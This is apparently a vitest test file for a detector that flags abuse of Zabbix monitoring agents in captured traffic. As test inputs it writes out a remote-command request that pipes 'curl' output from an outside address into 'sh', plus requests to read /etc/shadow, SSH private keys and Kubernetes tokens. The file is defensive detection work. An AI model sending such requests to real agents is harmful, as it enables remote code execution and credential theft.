/** monitoring-agent-abuse on what the Zabbix parser tells from zabbix_agentd 6.0's own bytes, and on built requests. */
import { describe, expect, it } from 'vitest';
import type { ProtocolEvent } from '#sidecar/events.ts';
import { zabbix } from '#sidecar/protocols/zabbix.ts';
import { monitoringAgentAbuse } from '#sidecar/threats/monitoring-agent-abuse.ts';
import { normalizedPath } from '#sidecar/threats/text/agent-file-paths.ts';
import type { Segment } from '#test/fixtures/protocols/protocol-harness.ts';
import { zabbixMessage } from '#test/fixtures/protocols/zabbix-build.ts';
import {
  activeChecks,
  activeChecksAnswer,
  agentData,
  agentDataAnswer,
  answerFile,
  answerLoad,
  answerNotSupported,
  answerPing,
  answerRun,
  askFile,
  askLoad,
  askPing,
  askRun,
} from '#test/fixtures/protocols/zabbix-messages.ts';
import { flow, runThreat } from './threat-factories.ts';

const agentFlow = flow({
  protocol: 'zabbix',
  client: { ip: '10.0.0.5', port: 40000 },
  server: { ip: '10.0.0.9', port: 10050 },
});

/** One connection's events, then its end. */
const connection = (segments: readonly Segment[]): (ProtocolEvent | { kind: 'flow-end'; ts: number })[] => {
  const parser = zabbix.createParser();
  return [
    ...segments.flatMap(([direction, bytes], i) => parser.parse(bytes, direction, i)),
    { kind: 'flow-end', ts: 99 },
  ];
};

const ask = (key: string, answer?: Uint8Array): Segment[] => [
  ['to-server', zabbixMessage(key)],
  ...(answer === undefined ? [] : ([['to-client', answer]] as Segment[])),
];

const judged = (segments: readonly Segment[], config: Record<string, unknown> = {}) =>
  runThreat(monitoringAgentAbuse, connection(segments), { flow: agentFlow, config }).map((h) => [
    h.severity,
    h.evidence,
  ]);

describe('monitoring-agent-abuse', () => {
  it('reports system.run answered with output critical, naming the command (the agent ran id)', () => {
    expect(
      judged([
        ['to-server', askRun],
        ['to-client', answerRun],
      ]),
    ).toEqual([
      [
        'critical',
        '10.0.0.5 asked the Zabbix agent at 10.0.0.9:10050 to run `id` (system.run): remote commands are enabled; it answered with 38 octets',
      ],
    ]);
  });

  it('reports system.run refused or unanswered high', () => {
    expect(
      judged([
        ['to-server', askRun],
        ['to-client', answerNotSupported],
      ]),
    ).toEqual([
      [
        'high',
        '10.0.0.5 asked the Zabbix agent at 10.0.0.9:10050 to run `id` (system.run); it refused (not supported: Unsupported item key.)',
      ],
    ]);
    expect(judged(ask('system.run["curl -s http://203.0.113.7/x | sh",nowait]'))).toEqual([
      [
        'high',
        '10.0.0.5 asked the Zabbix agent at 10.0.0.9:10050 to run `curl -s http://203.0.113.7/x | sh` (system.run); its answer was not seen',
      ],
    ]);
  });

  it('reports file keys of sensitive paths high, through host mounts and dot segments, and bounds the command', () => {
    const token = '/var/run/secrets/kubernetes.io/serviceaccount/token';
    const reads = [
      `vfs.file.contents[${token}]`,
      'vfs.file.get[/host/etc/./shadow]',
      'vfs.file.regexp["/root/.ssh/id_rsa",KEY]',
      'vfs.dir.get[/var/lib/kubelet/pki]',
    ];
    const hits = reads.flatMap((key) => judged(ask(key, answerFile)));
    expect(hits.map(([severity]) => severity)).toEqual(['high', 'high', 'high', 'high']);
    expect(hits[0]?.[1]).toBe(
      `10.0.0.5 asked the Zabbix agent at 10.0.0.9:10050 for ${token} (vfs.file.contents), a sensitive path; it answered with 2 octets`,
    );
    const [[, evidence] = []] = judged(ask(`system.run[echo ${'A'.repeat(5000)}]`));
    expect(evidence?.length).toBeLessThan(400);
  });

  it('leaves ordinary monitoring alone: agent.ping, system.cpu.load, vfs.fs.size, ordinary files, active checks', () => {
    const ordinary: Segment[][] = [
      [
        ['to-server', askPing],
        ['to-client', answerPing],
      ],
      [
        ['to-server', askLoad],
        ['to-client', answerLoad],
      ],
      [
        ['to-server', askFile],
        ['to-client', answerFile],
      ],
      ask('vfs.fs.size[/,pfree]', answerLoad),
      ask('vfs.file.cksum[/etc/passwd,sha256]', answerLoad),
      ask('vfs.file.contents[/etc/os-release]', answerFile),
      ask('vfs.file.contents[/var/log/secrets-rotation.log]', answerFile),
      ask('system.runtime', answerLoad),
      [
        ['to-server', activeChecks],
        ['to-client', activeChecksAnswer],
      ],
      [
        ['to-server', agentData],
        ['to-client', agentDataAnswer],
      ],
    ];
    expect(ordinary.flatMap((segments) => judged(segments))).toEqual([]);
  });

  it("quiets remote commands from allowClients (the Zabbix server's), never their secret reads", () => {
    const config = { allowClients: ['10.0.0.0/24'] };
    expect(
      judged(
        [
          ['to-server', askRun],
          ['to-client', answerRun],
        ],
        config,
      ),
    ).toEqual([]);
    expect(judged(ask('vfs.file.contents[/etc/shadow]', answerFile), config).map(([s]) => s)).toEqual([
      'high',
    ]);
    expect(judged(ask('vfs.file.contents[/etc/shadow]', answerFile), { fileSeverity: 'off' })).toEqual([]);
  });

  it('normalizes paths as the kernel resolves them', () => {
    expect(normalizedPath('/etc//ssh/../shadow')).toBe('/etc/shadow');
    expect(normalizedPath('/../../etc/./shadow')).toBe('/etc/shadow');
    expect(normalizedPath('etc/shadow')).toBe('etc/shadow');
  });
});
